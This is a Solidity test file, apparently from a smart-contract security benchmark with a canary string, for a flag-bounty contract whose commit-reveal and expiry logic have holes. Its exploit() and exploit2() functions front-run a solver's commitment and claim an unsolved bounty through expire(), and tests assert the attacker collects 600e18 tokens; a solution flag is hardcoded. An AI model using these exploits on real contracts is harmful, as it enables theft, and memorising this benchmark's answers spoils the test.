// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FlagBounties.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-6ad37b4a-a328-4432-903d-d026c7904f30

interface Vm {
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Token", "T") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// Has never solved anything. Repeats what others send, a moment earlier.
contract Attacker {
    FlagBounties internal board;

    constructor(FlagBounties board_) {
        board = board_;
    }

    function expire(uint256 id) external {
        board.expire(id);
    }

    function sawCommit(bytes32 commitment) external {
        board.commit(commitment);
    }

    function sawReveal(uint256 id, string calldata flag, bytes32 salt) external {
        board.reveal(id, flag, salt);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    string private constant FLAG = "flag{6b1f0c94e2a7d85b3370ce19}";
    bytes32 private constant SALT = keccak256("what only Fred knows");
    address private constant FRED = address(0xF4ED);
    address private constant AUTHOR = address(0xA0704);
    address private constant SPONSOR = address(0x590502);

    Token public token;
    FlagBounties private board;
    Attacker private shadow;
    uint256 private id;
    bytes32 private seen; // the commitment in Fred's transaction

    function setUp() public {
        vm.warp(1_700_000_000);
        vm.roll(1_000);
        token = new Token();
        board = new FlagBounties(token);
        shadow = new Attacker(board);
        token.mint(AUTHOR, 1_000e18);
        token.mint(SPONSOR, 200e18);
        vm.prank(AUTHOR);
        token.approve(address(board), 1_000e18);
        vm.prank(SPONSOR);
        token.approve(address(board), 200e18);
        vm.prank(AUTHOR);
        id = board.post(keccak256(bytes(FLAG)), 600e18, 60 days);

        vm.prank(FRED);
        seen = board.commitmentFor(id, FLAG, SALT);
        vm.prank(FRED);
        board.commit(seen);
    }

    function test_Regular() public {
        vm.prank(SPONSOR);
        board.topUp(id, 200e18);
        vm.prank(AUTHOR);
        board.addHint(id, "look at the padding");
        (, string[] memory hints) = board.challengeOf(id);
        require(hints.length == 1, "hint");

        vm.roll(1_009);
        require(!_reveal(FRED, FLAG, SALT), "too soon");
        vm.roll(1_010);
        require(!_reveal(AUTHOR, FLAG, SALT), "not committed");
        require(!_reveal(FRED, "flag{guess}", SALT), "other flag");
        require(_reveal(FRED, FLAG, SALT), "solved");
        require(token.balanceOf(FRED) == 800e18 && token.balanceOf(address(board)) == 0, "prize");
        require(!_reveal(FRED, FLAG, SALT), "solved twice");

        vm.prank(AUTHOR);
        uint256 second = board.post(keccak256("nobody solves it"), 100e18, 7 days);
        (bool ok, ) = address(board).call(abi.encodeCall(board.expire, (second)));
        require(!ok, "still running");
        vm.warp(block.timestamp + 7 days);
        vm.prank(AUTHOR);
        board.expire(second);
        require(token.balanceOf(AUTHOR) == 400e18, "expired");
    }

    function _reveal(address who, string memory flag, bytes32 salt) private returns (bool ok) {
        vm.prank(who);
        (ok, ) = address(board).call(abi.encodeCall(board.reveal, (id, flag, salt)));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Hints are the author's, and challenges last between a week and a year.
    function test_RefusesChallenges() public {
        refuses(SPONSOR, "author only");
        board.addHint(id, "none");
        refuses(AUTHOR, "bad term");
        board.post(0, 1, 7 days - 1);
        refuses(AUTHOR, "bad term");
        board.post(0, 1, 365 days + 1);
        vm.roll(1_010);
        require(_reveal(FRED, FLAG, SALT), "solved");
        refuses(SPONSOR, FlagBounties.Closed.selector);
        board.topUp(id, 1);
        vm.warp(block.timestamp + 60 days);
        vm.expectRevert(FlagBounties.Closed.selector);
        board.expire(id);
        vm.prank(AUTHOR);
        uint256 second = board.post(0, 1, 7 days);
        vm.warp(block.timestamp + 7 days);
        refuses(SPONSOR, FlagBounties.Closed.selector);
        board.topUp(second, 1);
    }

    /// Commitments last for a while, and are to the right flag.
    function test_RefusesCommitments() public {
        refuses(FRED, "committed already");
        board.commit(seen);
        vm.prank(FRED);
        bytes32 wrong = board.commitmentFor(id, "flag{guess}", SALT);
        vm.prank(FRED);
        board.commit(wrong);
        vm.roll(1_010);
        refuses(FRED, FlagBounties.WrongFlag.selector);
        board.reveal(id, "flag{guess}", SALT);
        vm.roll(1_000 + 7_201);
        refuses(FRED, "commitment too old");
        board.reveal(id, FLAG, SALT);
        vm.prank(FRED);
        board.commit(seen);
    }

    // The shadow sees Fred's commitment, and ten blocks later his reveal before it is in a block.
    function exploit() public {
        shadow.sawCommit(seen);
        vm.roll(1_010);
        shadow.sawReveal(id, FLAG, SALT);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(shadow)) == 600e18, "nothing gained");
        require(!_reveal(FRED, FLAG, SALT), "left for Fred");
    }

    // Nobody has solved it in time.
    function exploit2() public {
        vm.warp(block.timestamp + 60 days);
        shadow.expire(id);
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(shadow)) == 600e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(board);
    }

    function attacker() public view returns (address) {
        return address(shadow);
    }
}
